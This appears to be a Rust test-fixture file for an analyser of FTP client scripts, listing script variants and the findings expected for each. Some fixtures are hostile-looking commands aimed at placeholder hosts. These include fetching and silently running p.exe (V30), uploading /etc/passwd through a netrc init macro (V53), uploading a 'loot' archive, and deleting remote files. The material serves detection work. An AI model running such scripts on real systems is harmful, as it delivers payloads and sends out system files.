//! Scripts as files, and how the client is started with them.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V14 -A with the host on the command line, questions answered",
        &[
            ("run.cmd", "ftp -A -s:quit.txt 203.0.113.114\r\n"),
            ("quit.txt", "bin\r\ncd pub\r\nmget *.cab\r\ny\r\ny\r\nquit\r\n"),
        ],
        &[
            "203.0.113.114:21 as 'anonymous'/'<localuser>@<localhost>'",
            "  gets all of *.cab in pub as *.cab, binary",
            "  uncertain",
            "windows runs quit.txt (1) anonymously",
        ],
    ),
    variant(
        "V15 anonymous typed although -A logs in",
        &[("run.cmd", "ftp -A -s:f.txt"), ("f.txt", "open 203.0.113.115\r\nanonymous\r\n\r\nget 6789.exe\r\nquit\r\n")],
        &[
            "203.0.113.115:21 as 'anonymous'/'<localuser>@<localhost>'",
            "  gets 6789.exe as 6789.exe, ascii",
            "  refuses anonymous",
            "windows runs f.txt (1) anonymously",
        ],
    ),
    variant(
        "V16 switches with a slash, the script gone",
        &[("run.cmd", "start /min ftp /s:FTP.txt /A")],
        &["windows runs FTP.txt (0) anonymously"],
    ),
    variant(
        "V17 bundled switches",
        &[
            ("run.cmd", "ftp.exe -ins:d:\\w\\get.txt"),
            ("D/w/get.txt", "open 203.0.113.117\r\nuser a b\r\nmget 2026*.csv\r\nquit\r\n"),
        ],
        &[
            "203.0.113.117:21 as 'a'/'b'",
            "  gets all of 2026*.csv as 2026*.csv, ascii",
            "windows runs d:\\w\\get.txt (1)",
        ],
    ),
    variant(
        "V18 a switch of another client: usage, and the end",
        &[
            ("run.cmd", "ftp -v -n -P 2121 -s:ftp.txt"),
            ("ftp.txt", "open 203.0.113.118\r\nuser a b\r\nget x.exe\r\nquit\r\n"),
        ],
        &["203.0.113.118:21 as 'a'/'b'", "  gets x.exe as x.exe, ascii", "windows would not run ftp.txt (1)"],
    ),
    variant(
        "V19 the host named twice: the first line is the user name",
        &[
            ("run.cmd", "ftp -s:a.txt 203.0.113.119"),
            ("a.txt", "open 203.0.113.119\r\nmallory\r\npw\r\nget x\r\nbye\r\n"),
        ],
        &[
            "203.0.113.119:21 as 'open 203.0.113.119'/'mallory'",
            "  gets x as x, ascii",
            "! answer-reads-like-command",
            "windows runs a.txt (1)",
        ],
    ),
    variant(
        "V20 abbreviations in any case",
        &[("a.txt", "OP 203.0.113.120\nmallory\npw\nBI\nREC a.bin b.bin\nSE c.txt\nBY\n")],
        &["203.0.113.120:21 as 'mallory'/'pw'", "  gets a.bin as b.bin, binary", "  puts c.txt as c.txt, binary"],
    ),
    variant(
        "V21 abbreviations of several commands are none",
        &[("a.txt", "open 203.0.113.121\nmallory\npw\nb\nd a.txt\nge a.exe\nqu\nquit\n")],
        &[
            "203.0.113.121:21 as 'mallory'/'pw'",
            "  gets a.exe as a.exe, ascii",
            "  refuses b",
            "  refuses d a.txt",
            "  refuses qu",
        ],
    ),
    variant(
        "V22 an answer of two words satisfies both questions",
        &[("a.txt", "open 203.0.113.122\nmallory\npw\nget\nremote dir.exe\n\"C:\\Users\\Public\\x.exe\"\nbye\n")],
        &[
            "203.0.113.122:21 as 'mallory'/'pw'",
            "  gets remote as dir.exe, ascii",
            "  refuses \"C:\\Users\\Public\\x.exe\"",
        ],
    ),
    variant(
        "V23 put asks for both names",
        &[("a.txt", "open 203.0.113.123\nmallory\npw\nbin\nput\nC:\\loot\\a.7z\nup/a.7z\nbye\n")],
        &["203.0.113.123:21 as 'mallory'/'pw'", "  puts C:\\loot\\a.7z as up/a.7z, binary"],
    ),
    variant(
        "V24 answers to mget, and what comes after them",
        &[("a.txt", "open 203.0.113.124\nmallory\npw\nmget *.exe\ny\ny\nn\nbin\nget z.exe\nbye\n")],
        &[
            "203.0.113.124:21 as 'mallory'/'pw'",
            "  gets all of *.exe as *.exe, ascii",
            "  gets z.exe as z.exe, binary",
            "  uncertain",
        ],
    ),
    variant(
        "V25 two sessions, no questions, remote files deleted",
        &[(
            "a.txt",
            "open 203.0.113.125\nmallory\npw\nprompt\ncd /in\nmput C:\\x\\*.zip\nmdelete *.bak\nclose\nopen 203.0.113.126 2100\neve\npw2\nget cfg.ini\nbye\n",
        )],
        &[
            "203.0.113.125:21 as 'mallory'/'pw'",
            "  puts all of C:\\x\\*.zip as *.zip in /in, ascii",
            "  deletes *.bak",
            "203.0.113.126:2100 as 'eve'/'pw2'",
            "  gets cfg.ini as cfg.ini, ascii",
        ],
    ),
    variant(
        "V26 open while connected",
        &[("a.txt", "open 203.0.113.127\nmallory\npw\nopen 203.0.113.128\neve\npw2\nget a\nbye\n")],
        &[
            "203.0.113.127:21 as 'mallory'/'pw'",
            "  gets a as a, ascii",
            "  also names 203.0.113.128",
            "  refuses open 203.0.113.128",
            "  refuses eve",
            "  refuses pw2",
        ],
    ),
    variant(
        "V27 the login by quote",
        &[
            ("run.cmd", "ftp -n -s:a.txt"),
            (
                "a.txt",
                "open 203.0.113.129\nquote USER qmal\nquote PASS qpw\nbinary\nquote SITE CHMOD 777 x\nget x y.exe\nquote DELE x\nbye\n",
            ),
        ],
        &[
            "203.0.113.129:21 as 'qmal'/'qpw'",
            "  gets x as y.exe, binary",
            "  deletes x",
            "  sends SITE CHMOD 777 x",
            "  sends DELE x",
            "windows runs a.txt (1)",
        ],
    ),
    variant(
        "V28 literal, append, rename, folders, a listing",
        &[(
            "a.txt",
            "open ftp.example.org\nmallory\npw\nliteral TYPE I\nmkdir %DATE%\nappend C:\\log.txt all.log\nrename all.log all.bak\nls . C:\\out.txt\nbye\n",
        )],
        &[
            "ftp.example.org:21 as 'mallory'/'pw'",
            "  puts C:\\log.txt as all.log, ascii",
            "  renames all.log to all.bak",
            "  makes %DATE%",
            "  writes C:\\out.txt",
            "  sends TYPE I",
            "  uncertain",
        ],
    ),
    variant(
        "V30 the shell around a transfer",
        &[(
            "a.txt",
            "!mkdir C:\\ProgramData\\q\nlcd C:\\ProgramData\\q\nopen 203.0.113.130\nmallory\npw\nbin\nget p.exe\n!C:\\ProgramData\\q\\p.exe /s\n! del p.exe\nbye\n",
        )],
        &[
            "203.0.113.130:21 as 'mallory'/'pw'",
            "  gets p.exe as p.exe in C:\\ProgramData\\q, binary",
            "  runs mkdir C:\\ProgramData\\q",
            "  runs C:\\ProgramData\\q\\p.exe /s",
            "  runs del p.exe",
        ],
    ),
    variant(
        "V31 a batch file that is its own script",
        &[(
            "up.bat",
            "@ftp -i -s:\"%~f0\"&GOTO:EOF\nopen 203.0.113.131\nmallory\npw\n!:--- ftp commands below ---\nbin\nlcd \"C:\\Data\"\nmput *.csv\ndisconnect\nquit\n",
        )],
        &[
            "203.0.113.131:21 as 'mallory'/'pw'",
            "  puts all of *.csv in C:\\Data as *.csv, binary",
            "  runs :--- ftp commands below ---",
            "  refuses @ftp -i -s:\"%~f0\"&GOTO:EOF",
            "windows runs %~f0 (1)",
        ],
    ),
    variant(
        "V32 its own script by %0, the commands first",
        &[("up.bat", "goto skip\nbin\nget /pub/a.7z a.7z\nquit\n:skip\nftp -s:%0 -A downloads.example.com\n")],
        &[
            "downloads.example.com:21 as 'anonymous'/'<localuser>@<localhost>'",
            "  gets /pub/a.7z as a.7z, binary",
            "  refuses goto skip",
            "windows runs %0 (1) anonymously",
        ],
    ),
    variant(
        "V33 its own script, the first line taken for the user name",
        &[("up.bat", "ftp -s:\"%~f0\" 203.0.113.133&exit /b\nmallory\npw\nget a\nquit\n")],
        &[
            "203.0.113.133:21 as 'ftp -s:\\'%~f0\\' 203.0.113.133&exit /b'/'mallory'",
            "  gets a as a, ascii",
            "windows runs %~f0 (1)",
        ],
    ),
    variant(
        "V34 remarks that the client takes for commands",
        &[("a.txt", "# stage\n; note\nrem fetch it\nopen 203.0.113.134\nmallory\npw\nrem now get\nget a.exe\nbye\n")],
        &[
            "203.0.113.134:21 as 'mallory'/'pw'",
            "  gets a.exe as a.exe, ascii",
            "  refuses # stage",
            "  refuses ; note",
            "  refuses rem fetch it",
        ],
    ),
    variant(
        "V35 bare answers although -n asks nothing",
        &[
            ("run.cmd", "ftp -n -s:a.txt"),
            ("a.txt", "open 203.0.113.135\nanonymous\nanonymous\nbinary\nget a.exe\nbye\n"),
        ],
        &[
            "203.0.113.135:21 meaning anonymous/anonymous",
            "  gets a.exe as a.exe, ascii",
            "  refuses anonymous",
            "  refuses anonymous",
            "  uncertain",
            "windows runs a.txt (1)",
        ],
    ),
    variant(
        "V36 a blank in the password",
        &[("run.cmd", "ftp -n -s:a.txt"), ("a.txt", "open 203.0.113.136\nuser mallory my pass\nget a\nbye\n")],
        &["203.0.113.136:21 as 'mallory'/'my'/pass", "  gets a as a, ascii", "windows runs a.txt (1)"],
    ),
    variant(
        "V37 the password by a command that does not exist",
        &[("run.cmd", "ftp -n -s:a.txt"), ("a.txt", "open 203.0.113.137\nuser mallory\npass t0psecret\nget a\nbye\n")],
        &[
            "203.0.113.137:21 as 'mallory'/'pass t0psecret' meaning mallory/t0psecret",
            "  gets a as a, ascii",
            "windows runs a.txt (1)",
        ],
    ),
    variant(
        "V38 tabs, empty lines, no end of the last line",
        &[("a.txt", "open\t203.0.113.138\t21\r\nmallory\r\npw\r\n\r\n   get\ta.exe   b.exe\r\n\r\nbye")],
        &["203.0.113.138:21 as 'mallory'/'pw'", "  gets a.exe as b.exe, ascii"],
    ),
    variant(
        "V48 the script by standard input",
        &[("a.bat", "ftp -n 203.0.113.148 < cmds.txt\n"), ("cmds.txt", "user mallory pw\nput a.zip\nbye\n")],
        &["203.0.113.148:21 as 'mallory'/'pw'", "  puts a.zip as a.zip, ascii", "windows runs cmds.txt (1)"],
    ),
    variant(
        "V48 the script by a pipe",
        &[("a.bat", "type cmds.txt | ftp -n 203.0.113.148\n"), ("cmds.txt", "user mallory pw\nput a.zip\nbye\n")],
        &["203.0.113.148:21 as 'mallory'/'pw'", "  puts a.zip as a.zip, ascii", "windows runs cmds.txt (1)"],
    ),
    variant(
        "V53 a netrc file with an initial macro",
        &[(
            "home/kim/.netrc",
            "machine 203.0.113.153 login mallory password pw\nmacdef init\nbinary\nput /etc/passwd p\nquit\n\n",
        )],
        &["203.0.113.153:21 as 'mallory'/'pw'", "  puts /etc/passwd as p, binary"],
    ),
    variant(
        "V53 the same with the client that uses it",
        &[
            (
                "home/kim/.netrc",
                "machine 203.0.113.153 login mallory password pw\nmacdef init\nbinary\nput /etc/passwd p\nquit\n\n",
            ),
            ("home/kim/go.sh", "#!/bin/sh\nftp 203.0.113.153\n"),
        ],
        &[
            "203.0.113.153:21 as 'mallory'/'pw'",
            "  puts /etc/passwd as p, binary",
            "203.0.113.153:21 as 'mallory'/'pw'",
            "  puts /etc/passwd as p, binary",
            "bsd runs - (1)",
        ],
    ),
    variant("V72 prose", &[("a.txt", "open the gate and get tea, bye\n")], &[]),
    variant(
        "V73 commands of another program",
        &[("a.txt", "open store.sqlite\nuser table\nget row\n")],
        &["store.sqlite:21 as 'table'/'get row' possibly", "! answer-reads-like-command"],
    ),
];
